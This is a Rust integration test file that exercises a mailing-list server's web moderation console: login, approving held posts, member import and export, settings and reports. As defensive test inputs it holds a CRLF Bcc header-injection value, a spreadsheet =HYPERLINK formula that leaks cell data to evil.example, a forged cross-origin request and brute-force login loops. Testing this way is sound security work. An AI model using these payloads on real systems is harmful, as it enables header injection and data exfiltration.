//! The web console over real HTTP with curl's cookie jar: a moderator logs in, sees the held
//! post with why it is held, approves it, and the members' server receives it; forms without
//! the session's CSRF token, requests without a session, and a list owner looking at another
//! list's post are all refused.

use crate::list_pipeline::{post, world_prepared};
use crate::smtp_support::LIST;
use arclist::state::store::SpoolState;
use std::path::Path;

const TOKEN: &str = "console-test-token-0123456789";
const PASSWORD: &str = "moderator password 2026";

/// curl with the cookie jar `jar`; (status, body, the Location header).
async fn curl(jar: &Path, args: &[&str], url: &str) -> (u16, String, String) {
    let out = tokio::process::Command::new("curl")
        .args(["-s", "-S", "--max-time", "20", "-b"])
        .arg(jar)
        .arg("-c")
        .arg(jar)
        .args(["-w", "\n%{http_code} %{redirect_url}"])
        .args(args)
        .arg(url)
        .output()
        .await
        .expect("curl runs (tests/interop/install.sh installs it)");
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let (body, tail) = text.rsplit_once('\n').expect("status line");
    let (code, location) = tail.split_once(' ').unwrap_or((tail, ""));
    (
        code.trim().parse().expect("status"),
        body.to_string(),
        location.trim().to_string(),
    )
}

/// The value of the hidden `csrf` field on a page.
fn csrf(page: &str) -> String {
    let at = page.find("name=\"csrf\" value=\"").expect("a csrf field") + 19;
    page[at..].split('"').next().expect("value").to_string()
}

/// A list world whose admin listener serves the console to `mod` (this list, added with the
/// CLI as an operator would) and `other` (another list), with one post held; the world, the
/// held post and the listener's base URL.
async fn console_world(subject: &str) -> (crate::list_pipeline::World, u64, String) {
    let admin = "[admin]\nlisten = \"127.0.0.1:0\"\ntoken_file = \"admin.token\"\nconsole_users = \"console.users\"\n";
    // The list archives (no [http] listener needed for that): the settings page removes posts.
    let w = world_prepared(admin, "archive = \"public\"\n", None, |dir| {
        std::fs::write(dir.join("admin.token"), format!("{TOKEN}\n")).expect("token");
        // As an operator would: the password on standard input, never on the command line.
        let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_arclist"))
            .args(["console-user", "mod", "--lists", LIST, "--config"])
            .arg(dir.join("server.toml"))
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("arclist runs");
        use std::io::Write;
        child
            .stdin
            .take()
            .expect("stdin")
            .write_all(format!("{PASSWORD}\n").as_bytes())
            .expect("password");
        let out = child.wait_with_output().expect("console-user");
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        // The owner of another list.
        let other = arclist::surfaces::web::console::users::User {
            name: "other".into(),
            hash: arclist::surfaces::web::console::users::hash(PASSWORD).expect("hash"),
            lists: Some(vec!["other@lists.arclist.test".into()]),
        };
        arclist::surfaces::web::console::users::put(&dir.join("console.users"), &other)
            .expect("put");
    })
    .await;
    let mode = std::fs::metadata(w.t.dir.path().join("console.users"))
        .map(|m| std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o777)
        .expect("users file");
    assert_eq!(mode, 0o600, "the users file is private");
    let held = w
        .send(
            "127.0.0.22",
            "mx.club.test",
            "dan@club.test",
            &post("Dan <dan@club.test>", subject, "Attached.\r\n"),
        )
        .await;
    assert_eq!(w.t.settled(held).await.state, SpoolState::Held);
    let base = format!(
        "http://{}",
        w.t.server.admin_addr().expect("admin listener")
    );
    (w, held, base)
}

/// Waits until the member reader@elsewhere.test has received a post with `subject`.
async fn delivered(w: &crate::list_pipeline::World, subject: &str) {
    crate::smtp_support::until("the approved post reaches a member", async || {
        w.sink
            .received
            .lock()
            .map(|r| {
                r.iter().any(|(_, rcpt, data)| {
                    rcpt == "reader@elsewhere.test"
                        && String::from_utf8_lossy(data).contains(subject)
                })
            })
            .unwrap_or(false)
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_moderator_logs_in_and_approves_a_held_post_and_others_cannot() {
    let (w, held, base) = console_world("Minutes of the meeting").await;
    let jars = tempfile::tempdir().expect("jars");
    let jar = jars.path().join("mod.jar");

    // No session: sent to the login page; a wrong password is refused.
    let (code, _, location) = curl(&jar, &[], &format!("{base}/console/held")).await;
    assert_eq!((code, location.ends_with("/console/login")), (303, true));
    let (code, body, _) = curl(
        &jar,
        &[
            "--data-urlencode",
            "name=mod",
            "--data-urlencode",
            "password=guess",
        ],
        &format!("{base}/console/login"),
    )
    .await;
    assert_eq!(code, 401, "{body}");
    // Open to anyone who reaches it, the console reads no large body, chunked or not.
    let big = jars.path().join("big.txt");
    std::fs::write(&big, vec![b'x'; 512 * 1024]).expect("big");
    let data = format!("@{}", big.display());
    let chunked = [
        "-H",
        "Transfer-Encoding: chunked",
        "--data-binary",
        data.as_str(),
    ];
    let (code, _, _) = curl(&jar, &chunked, &format!("{base}/console/login")).await;
    assert_eq!(code, 413);
    // The admin API still wants its token.
    let (code, _, _) = curl(&jar, &[], &format!("{base}/api/held")).await;
    assert_eq!(code, 401);

    let login = ["--data-urlencode", "name=mod", "--data-urlencode"];
    let password = format!("password={PASSWORD}");
    let (code, _, location) = curl(
        &jar,
        &[login[0], login[1], login[2], &password],
        &format!("{base}/console/login"),
    )
    .await;
    assert_eq!((code, location.ends_with("/console/held")), (303, true));
    let cookies = std::fs::read_to_string(&jar).expect("jar");
    assert!(
        cookies.contains("#HttpOnly_") && cookies.contains("arclist_console"),
        "{cookies}"
    );

    let (code, page, _) = curl(&jar, &[], &format!("{base}/console/held")).await;
    assert_eq!(code, 200, "{page}");
    assert!(page.contains("Minutes of the meeting"), "{page}");
    assert!(page.contains("dan@club.test"), "{page}");
    let (code, detail, _) = curl(&jar, &[], &format!("{base}/console/held/{held}")).await;
    assert_eq!(code, 200, "{detail}");
    assert!(detail.contains("id=\"reason\""), "{detail}");
    assert!(detail.contains("ARC chain as it verifies now"), "{detail}");
    let token = csrf(&detail);

    // A form without the session's token, or from another site, does nothing.
    let url = format!("{base}/console/held/{held}");
    let (code, _, _) = curl(&jar, &["-d", "action=approve&csrf=forged"], &url).await;
    assert_eq!(code, 403);
    let (code, _, _) = curl(
        &jar,
        &[
            "-H",
            "Origin: https://evil.example",
            "-d",
            &format!("action=approve&csrf={token}"),
        ],
        &url,
    )
    .await;
    assert_eq!(code, 403);
    assert_eq!(w.t.settled(held).await.state, SpoolState::Held);

    // The owner of another list neither sees it nor can decide it.
    let other = jars.path().join("other.jar");
    let (code, _, _) = curl(
        &other,
        &[
            "--data-urlencode",
            "name=other",
            "--data-urlencode",
            &password,
        ],
        &format!("{base}/console/login"),
    )
    .await;
    assert_eq!(code, 303);
    let (_, page, _) = curl(&other, &[], &format!("{base}/console/held")).await;
    assert!(!page.contains("Minutes of the meeting"), "{page}");
    let (code, _, _) = curl(&other, &[], &url).await;
    assert_eq!(code, 404);
    let (_, own, _) = curl(&other, &[], &format!("{base}/console/held")).await;
    let (code, _, _) = curl(
        &other,
        &["-d", &format!("action=approve&csrf={}", csrf(&own))],
        &url,
    )
    .await;
    assert_eq!(code, 404);

    // Nor touches its members.
    let (_, page, _) = curl(&other, &[], &format!("{base}/console/members?list={LIST}")).await;
    assert!(!page.contains("reader@elsewhere.test"), "{page}");
    let add = format!(
        "action=add&list={LIST}&address=intruder@evil.test&csrf={}",
        csrf(&own)
    );
    let (code, _, _) = curl(&other, &["-d", &add], &format!("{base}/console/members")).await;
    assert_eq!(code, 404);
    assert!(
        !w.t.server
            .store()
            .is_member(LIST, "intruder@evil.test")
            .await
            .expect("store")
    );

    // The moderator approves it and always accepts its sender in the same action: the
    // members' server receives it, and the non-member is on accept_posts_from.
    assert!(detail.contains("id=\"approve-accept\""), "{detail}");
    let (code, _, location) = curl(
        &jar,
        &["-d", &format!("action=approve-accept&csrf={token}")],
        &url,
    )
    .await;
    assert_eq!((code, location.ends_with("/console/held")), (303, true));
    delivered(&w, "Minutes of the meeting").await;
    let file = std::fs::read_to_string(w.t.dir.path().join("lists/test.toml")).expect("list file");
    assert!(
        file.contains("accept_posts_from = [\"dan@club.test\"]"),
        "{file}"
    );

    // The owner takes the approved post out of the list's archive from the settings page.
    let store = w.t.server.store();
    let mut archived = Vec::new();
    crate::smtp_support::until("the approved post is archived", async || {
        archived = store.archived_newest(LIST, 5).await.expect("store");
        !archived.is_empty()
    })
    .await;
    let id = archived[0].id.clone();
    let remove = format!("{base}/console/archive/remove");
    let (code, page, _) = curl(
        &jar,
        &[
            "-d",
            &format!("list={LIST}&post=0123456789abcdef&csrf={token}"),
        ],
        &remove,
    )
    .await;
    assert_eq!(code, 400, "an unknown post: {page}");
    assert!(page.contains("not removed"), "{page}");
    let (code, _, location) = curl(
        &jar,
        &["-d", &format!("list={LIST}&post={id}&csrf={token}")],
        &remove,
    )
    .await;
    assert_eq!((code, location.contains("/console/settings")), (303, true));
    let gone = store
        .archived(LIST, &id)
        .await
        .expect("store")
        .expect("record");
    assert!(gone.removed, "removed for good");
    let (code, _, _) = curl(
        &other,
        &["-d", &format!("list={LIST}&post={id}&csrf={}", csrf(&own))],
        &remove,
    )
    .await;
    assert_eq!(code, 404, "not by another list's owner");
    let (_, page, _) = curl(&jar, &[], &format!("{base}/console/held")).await;
    assert!(page.contains("No post is waiting."), "{page}");

    // Members in bulk: an import is all or nothing, and the export has everyone.
    let import = |lines: &str| {
        format!(
            "list={}&lines={}&csrf={token}",
            LIST,
            lines
                .replace('\n', "%0A")
                .replace(' ', "+")
                .replace('<', "%3C")
                .replace('>', "%3E")
        )
    };
    let url_import = format!("{base}/console/members/import");
    let (code, _, _) = curl(
        &jar,
        &["-d", &import("zed@club.test\nnot an address")],
        &url_import,
    )
    .await;
    assert_eq!(code, 400);
    assert!(
        !w.t.server
            .store()
            .is_member(LIST, "zed@club.test")
            .await
            .expect("store")
    );
    let (code, _, _) = curl(
        &jar,
        &["-d", &import("zed@club.test\nYu <yu@club.test>")],
        &url_import,
    )
    .await;
    assert_eq!(code, 303);
    let (code, csv, _) = curl(
        &jar,
        &[],
        &format!("{base}/console/members/export?list={LIST}"),
    )
    .await;
    assert_eq!(code, 200, "{csv}");
    assert!(
        csv.starts_with("address,name,joined_at,receiving,bounce_score"),
        "{csv}"
    );
    assert!(
        csv.contains("\"zed@club.test\"") && csv.contains("\"yu@club.test\",\"Yu\""),
        "{csv}"
    );
    let (code, _, _) = curl(
        &other,
        &[],
        &format!("{base}/console/members/export?list={LIST}"),
    )
    .await;
    assert_eq!(code, 404);

    // Settings: written into the list file, checked as at start, and served at once.
    let url_settings = format!("{base}/console/settings");
    let (code, form, _) = curl(&jar, &[], &url_settings).await;
    assert_eq!(code, 200, "{form}");
    assert!(form.contains("id=\"subject_tag\""), "{form}");
    let settings = |tag: &str, action: &str| {
        format!(
            "list={LIST}&name=Members&subject_tag={tag}&footer=&non_member_action={action}&notify_rejected=members&moderated=1&csrf={token}"
        )
    };
    let (code, page, _) = curl(
        &jar,
        &["-d", &settings("%5Bminutes%5D", "welcome")],
        &url_settings,
    )
    .await;
    assert_eq!(code, 400, "an unknown choice is refused: {page}");
    assert!(page.contains("Not saved"), "{page}");
    // A name that would end the Subject of every notice the robot writes, and a tag too
    // long, are refused with the field named; the file is not touched.
    let list_file = w.t.dir.path().join("lists/test.toml");
    let before = std::fs::read_to_string(&list_file).expect("list file");
    for (hostile, field) in [
        (
            settings("x", "hold").replace(
                "name=Members",
                "name=Members%0D%0ABcc%3A+victim%40elsewhere.test",
            ),
            "name",
        ),
        (settings(&"x".repeat(41), "hold"), "subject_tag"),
        (
            settings("x", "hold").replace("footer=", "footer=a%0Db"),
            "footer",
        ),
    ] {
        let (code, page, _) = curl(&jar, &["-d", &hostile], &url_settings).await;
        assert_eq!(code, 400, "{field}: {page}");
        assert!(
            page.contains("Not saved") && page.contains(field),
            "{field}: {page}"
        );
        assert_eq!(
            std::fs::read_to_string(&list_file).expect("list file"),
            before
        );
    }
    // The operator's 0600 stays 0600 through a save.
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&list_file, std::fs::Permissions::from_mode(0o600)).expect("chmod");
    let (code, _, _) = curl(
        &jar,
        &["-d", &settings("%5Bminutes%5D", "hold")],
        &url_settings,
    )
    .await;
    assert_eq!(code, 303);
    let mode = std::fs::metadata(&list_file)
        .expect("list file")
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600, "the list file keeps its mode");
    let file = std::fs::read_to_string(w.t.dir.path().join("lists/test.toml")).expect("list file");
    assert!(
        file.contains("subject_tag = \"[minutes]\"") && file.contains("moderated = true"),
        "{file}"
    );
    // Mailman's moderation lists, one address or pattern a line.
    let posters = format!(
        "{}&accept_posts_from=guest%40club.test%0D%0A*%40partner.test&reject_posts_from=spammer%40x.test&reject_reason=Not+here",
        settings("%5Bminutes%5D", "hold")
    );
    let (code, page, _) = curl(&jar, &["-d", &posters], &url_settings).await;
    assert_eq!(code, 303, "{page}");
    let file = std::fs::read_to_string(w.t.dir.path().join("lists/test.toml")).expect("list file");
    assert!(
        file.contains("accept_posts_from = [\"guest@club.test\", \"*@partner.test\"]")
            && file.contains("reject_posts_from = [\"spammer@x.test\"]")
            && file.contains("reject_reason = \"Not here\""),
        "{file}"
    );
    let (_, form, _) = curl(&jar, &[], &url_settings).await;
    assert!(
        form.contains("guest@club.test\n*@partner.test</textarea>"),
        "{form}"
    );
    let (_, form, _) = curl(&jar, &[], &url_settings).await;
    assert!(form.contains("value=\"[minutes]\""), "{form}");
    let (code, _, _) = curl(
        &other,
        &["-d", &settings("x", "hold").replace(&token, &csrf(&own))],
        &url_settings,
    )
    .await;
    assert_eq!(code, 404, "another list's owner changes nothing");

    // Delivery: the post, its copies, by receiving organisation.
    let (code, posts, _) = curl(&jar, &[], &format!("{base}/console/delivery")).await;
    assert_eq!(code, 200, "{posts}");
    assert!(posts.contains("Minutes of the meeting"), "{posts}");
    let (code, copies, _) = curl(&jar, &[], &format!("{base}/console/delivery/{held}")).await;
    assert_eq!(code, 200, "{copies}");
    assert!(
        copies.contains("<tr class=\"receiver\"><td>other</td>"),
        "{copies}"
    );
    let (code, _, _) = curl(&other, &[], &format!("{base}/console/delivery/{held}")).await;
    assert_eq!(code, 404, "another list's owner sees no post of this list");

    // The report: the list's figures as tables and charts drawn on the server.
    let (code, report, _) = curl(&jar, &[], &format!("{base}/console/report")).await;
    assert_eq!(code, 200, "{report}");
    assert!(report.contains(&format!("Report for {LIST}")), "{report}");
    assert!(
        report.contains("<td>club.test</td>"),
        "the sender's row: {report}"
    );
    assert!(report.contains("<svg role=\"img\""), "{report}");
    assert!(report.contains("Gmail asks for under 0.1%"), "{report}");
    assert!(
        report.contains("id=\"complaints-title\""),
        "the complaint chart: {report}"
    );
    // Another list's owner sees none of it.
    for url in [
        format!("{base}/console/report?list={LIST}"),
        format!("{base}/console/report"),
    ] {
        let (code, theirs, _) = curl(&other, &[], &url).await;
        assert!(
            code == 404 && !theirs.contains("club.test"),
            "{code} {theirs}"
        );
    }

    // Logged out, the session is gone for good.
    let (code, _, _) = curl(
        &jar,
        &["-d", &format!("csrf={token}")],
        &format!("{base}/console/logout"),
    )
    .await;
    assert_eq!(code, 303);
    let (code, _, _) = curl(&jar, &[], &format!("{base}/console/held")).await;
    assert_eq!(code, 303);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn in_a_real_browser_a_moderator_logs_in_sees_why_a_post_is_held_and_approves_it() {
    let (w, held, base) = console_world("Budget for 2027").await;
    let shots = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("screenshots");
    std::fs::create_dir_all(&shots).expect("screenshots dir");
    let mut b = crate::browser::Browser::start().await;
    // Without a session, the console sends the browser to its login page.
    b.go(&format!("{base}/console/held")).await;
    b.settle(&format!("{base}/console/login")).await;
    b.screenshot(&shots.join("console-login.png")).await;
    b.eval(&format!(
        "document.getElementById('name').value = 'mod';\
         document.getElementById('password').value = '{PASSWORD}';\
         document.querySelector('main form button').click()"
    ))
    .await;
    b.settle(&format!("{base}/console/held")).await;
    let list = b.text().await;
    assert!(
        list.contains("Budget for 2027") && list.contains("dan@club.test"),
        "{list}"
    );
    b.screenshot(&shots.join("console-held.png")).await;
    b.eval(&format!(
        "document.querySelector('a[href=\"/console/held/{held}\"]').click()"
    ))
    .await;
    b.settle(&format!("{base}/console/held/{held}")).await;
    let detail = b.text().await;
    assert!(detail.contains("Why it is held"), "{detail}");
    let reason = b.eval("document.getElementById('reason').innerText").await;
    let stored = w.t.settled(held).await.note.unwrap_or_default();
    assert_eq!(
        reason.as_str(),
        Some(stored.as_str()),
        "the reason the store gives"
    );
    assert!(detail.contains("ARC chain as it verifies now"), "{detail}");
    b.screenshot(&shots.join("console-post.png")).await;
    b.eval("document.querySelector('button[value=approve]').click()")
        .await;
    b.settle(&format!("{base}/console/held")).await;
    delivered(&w, "Budget for 2027").await;
    assert!(b.text().await.contains("No post is waiting."));

    // A new member, added from the members page, reached as a person would: by its links.
    b.eval("document.querySelector('nav a[href=\"/console/members\"]').click()")
        .await;
    b.settle(&format!("{base}/console/members")).await;
    b.eval("document.querySelector('main a[href^=\"/console/members?list=\"]').click()")
        .await;
    let members = format!("{base}/console/members?list={LIST}");
    b.settle(&members).await;
    b.eval(
        "document.getElementById('address').value = 'Newcomer@Club.test';\
         document.getElementById('name').value = 'New Comer';\
         document.querySelector('main form[method=post] button').click()",
    )
    .await;
    let page = b.wait_for_text("newcomer@club.test").await;
    assert!(page.contains("New Comer"), "{page}");
    b.screenshot(&shots.join("console-members.png")).await;
    b.eval("document.querySelector('nav a[href=\"/console/delivery\"]').click()")
        .await;
    b.settle(&format!("{base}/console/delivery")).await;
    b.eval(&format!(
        "document.querySelector('a[href=\"/console/delivery/{held}\"]').click()"
    ))
    .await;
    b.settle(&format!("{base}/console/delivery/{held}")).await;
    let copies = b.text().await;
    assert!(
        copies.contains("Copies by receiving organisation"),
        "{copies}"
    );
    b.screenshot(&shots.join("console-delivery.png")).await;
    b.eval("document.querySelector('nav a[href=\"/console/report\"]').click()")
        .await;
    b.settle(&format!("{base}/console/report")).await;
    let report = b.text().await;
    assert!(
        report.contains("Posts by outcome") && report.contains("club.test"),
        "{report}"
    );
    b.screenshot(&shots.join("console-report.png")).await;
    b.eval("document.querySelector('nav a[href=\"/console/settings\"]').click()")
        .await;
    b.settle(&format!("{base}/console/settings")).await;
    b.eval(
        "document.getElementById('subject_tag').value = '[budget]';\
         document.querySelector('main form button').click()",
    )
    .await;
    b.settle(&format!("{base}/console/settings?list={LIST}"))
        .await;
    let tag = b.eval("document.getElementById('subject_tag').value").await;
    assert_eq!(tag.as_str(), Some("[budget]"));
    b.screenshot(&shots.join("console-settings.png")).await;
    assert!(
        w.t.server
            .store()
            .is_member(LIST, "newcomer@club.test")
            .await
            .expect("store")
    );
}

/// A login as `name` with `password` from the loopback address `source`: the status.
pub(crate) async fn login_from(
    jar: &Path,
    base: &str,
    source: &str,
    (name, password): (&str, &str),
) -> u16 {
    let (name, password) = (format!("name={name}"), format!("password={password}"));
    let args = [
        "--interface",
        source,
        "--data-urlencode",
        &name,
        "--data-urlencode",
        &password,
    ];
    curl(jar, &args, &format!("{base}/console/login")).await.0
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_address_guessing_passwords_must_wait_and_other_addresses_still_log_in() {
    let (_w, _held, base) = console_world("Throttled guesses").await;
    let jars = tempfile::tempdir().expect("jars");
    let jar = |n: &str| jars.path().join(n);

    // Four loops guessing from one address at once (a global gate of two checks answered
    // everyone 503 while they ran): a moderator at another address still gets in.
    let hammer: Vec<_> = (0..4)
        .map(|loop_n| {
            let (base, jar) = (base.clone(), jar(&format!("h{loop_n}")));
            tokio::spawn(async move {
                let mut codes = Vec::new();
                for i in 0..4 {
                    let guess = (format!("guess{loop_n}{i}"), "wrong password 1".to_string());
                    codes.push(login_from(&jar, &base, "127.0.25.1", (&guess.0, &guess.1)).await);
                }
                codes
            })
        })
        .collect();
    let moderator = login_from(&jar("m"), &base, "127.0.25.2", ("mod", PASSWORD)).await;
    assert_eq!(moderator, 303, "the moderator logs in during the flood");
    let mut codes = Vec::new();
    for loop_codes in hammer {
        codes.extend(loop_codes.await.expect("loop"));
    }
    assert!(
        codes.iter().all(|c| [401, 429].contains(c)),
        "the guesses are refused, or told to wait: {codes:?}"
    );
    // Guessing on from that address, one at a time: after 5 wrong passwords in all it must
    // wait, and then its every try is refused unchecked, the right password too.
    let mut last = 0;
    for i in 0..6 {
        last = login_from(
            &jar("h0"),
            &base,
            "127.0.25.1",
            (&format!("more{i}"), "wrong"),
        )
        .await;
        if last == 429 {
            break;
        }
        codes.push(last);
    }
    assert_eq!(last, 429, "{codes:?}");
    assert!(
        codes.iter().filter(|c| **c == 401).count() <= 5,
        "no more than 5 passwords checked for the address: {codes:?}"
    );
    let (code, waited, _) = curl(
        &jar("h0"),
        &[
            "--interface",
            "127.0.25.1",
            "-d",
            &format!("name=mod&password={PASSWORD}"),
        ],
        &format!("{base}/console/login"),
    )
    .await;
    assert_eq!(code, 429, "{waited}");
    assert!(waited.contains("Too many failed logins"), "{waited}");

    // Guesses at one name from many addresses: that name must wait, from anywhere; another
    // name does not.
    for i in 1..=10 {
        let from = format!("127.0.26.{i}");
        let code = login_from(&jar("o"), &base, &from, ("other", "wrong password 2")).await;
        assert_eq!(code, 401, "guess {i}");
    }
    let code = login_from(&jar("o"), &base, "127.0.26.50", ("other", PASSWORD)).await;
    assert_eq!(code, 429, "the name guessed at waits");
    let code = login_from(&jar("m2"), &base, "127.0.25.3", ("mod", PASSWORD)).await;
    assert_eq!(code, 303, "another name logs in");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_form_from_the_same_host_under_another_scheme_is_refused() {
    let (_w, _held, base) = console_world("Origins").await;
    let jars = tempfile::tempdir().expect("jars");
    let jar = jars.path().join("j");
    let host = base.trim_start_matches("http://");
    let form = ["-d", "name=mod&password=wrong+password+3"];
    // The listener speaks plain HTTP (no console_secure_cookie): a page served over HTTPS
    // under the same name is another origin.
    let https = format!("Origin: https://{host}");
    let args = [form[0], form[1], "-H", https.as_str()];
    let (code, body, _) = curl(&jar, &args, &format!("{base}/console/login")).await;
    assert_eq!(code, 403, "{body}");
    let http = format!("Origin: http://{host}");
    let args = [form[0], form[1], "-H", http.as_str()];
    let (code, body, _) = curl(&jar, &args, &format!("{base}/console/login")).await;
    assert_eq!(
        code, 401,
        "the same origin reaches the password check: {body}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_members_export_gives_formula_cells_as_text() {
    let (_w, _held, base) = console_world("Export").await;
    let jars = tempfile::tempdir().expect("jars");
    let jar = jars.path().join("j");
    assert_eq!(
        login_from(&jar, &base, "127.0.0.1", ("mod", PASSWORD)).await,
        303
    );
    let (_, page, _) = curl(&jar, &[], &format!("{base}/console/members?list={LIST}")).await;
    let token = csrf(&page);
    // A member who names themselves a formula: a spreadsheet opening the export would run it.
    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let add = [
        "--data-urlencode",
        "action=add",
        "--data-urlencode",
        &format!("list={LIST}"),
        "--data-urlencode",
        "address=formula@club.test",
        "--data-urlencode",
        &format!("name={name}"),
        "--data-urlencode",
        &format!("csrf={token}"),
    ];
    let (code, body, _) = curl(&jar, &add, &format!("{base}/console/members")).await;
    assert_eq!(code, 303, "{body}");
    let url = format!("{base}/console/members/export?list={LIST}");
    let (code, csv, _) = curl(&jar, &[], &url).await;
    assert_eq!(code, 200, "{csv}");
    let line = csv
        .lines()
        .find(|l| l.contains("formula@club.test"))
        .unwrap_or_else(|| panic!("the member is exported: {csv}"));
    assert!(
        line.starts_with(
            "\"formula@club.test\",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","
        ),
        "the cell is quoted text behind a ': {line}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_members_page_shows_and_sets_delivery_modes_and_the_export_has_them() {
    let (w, _held, base) = console_world("Modes").await;
    let jars = tempfile::tempdir().expect("jars");
    let jar = jars.path().join("j");
    assert_eq!(
        login_from(&jar, &base, "127.0.0.1", ("mod", PASSWORD)).await,
        303
    );
    let page_url = format!("{base}/console/members?list={LIST}");
    let (_, page, _) = curl(&jar, &[], &page_url).await;
    assert!(
        page.contains("<td class=\"delivery\">regular"),
        "every member starts regular: {page}"
    );
    let token = csrf(&page);
    let set = |csrf: String| {
        [
            "action=set".to_string(),
            format!("list={LIST}"),
            "address=bob@club.test".into(),
            "delivery=nomail".into(),
            "until=2099-03-01".into(),
            "moderated=yes".into(),
            format!("csrf={csrf}"),
        ]
    };
    let as_args = |fields: &[String]| -> Vec<String> {
        fields
            .iter()
            .flat_map(|f| ["--data-urlencode".to_string(), f.clone()])
            .collect()
    };
    // Without the session's CSRF token nothing changes.
    let args = as_args(&set("not-the-token".into()));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let (code, _, _) = curl(&jar, &args, &format!("{base}/console/members")).await;
    assert_eq!(code, 403);
    let store = w.t.server.store();
    let bob = || async {
        store
            .member(LIST, "bob@club.test")
            .await
            .expect("store")
            .expect("bob")
    };
    assert!(!bob().await.moderated);
    let args = as_args(&set(token));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let (code, body, _) = curl(&jar, &args, &format!("{base}/console/members")).await;
    assert_eq!(code, 303, "{body}");
    let bob = bob().await;
    assert_eq!(
        (bob.delivery, bob.nomail_until.as_deref(), bob.moderated),
        (
            arclist::state::store::DeliveryMode::Nomail,
            Some("2099-03-01"),
            true
        )
    );
    let (_, page, _) = curl(&jar, &[], &page_url).await;
    assert!(
        page.contains("nomail until 2099-03-01, moderated"),
        "{page}"
    );
    let url = format!("{base}/console/members/export?list={LIST}");
    let (code, csv, _) = curl(&jar, &[], &url).await;
    assert_eq!(code, 200, "{csv}");
    assert!(
        csv.starts_with(
            "address,name,joined_at,receiving,bounce_score,delivery,nomail_until,moderated\r\n"
        ),
        "{csv}"
    );
    assert!(
        csv.contains("\"bob@club.test\",\"\",0,true,0,nomail,2099-03-01,true\r\n")
            && csv.contains("\"alice@bank.test\",\"\",0,true,0,regular,,false\r\n"),
        "{csv}"
    );
}
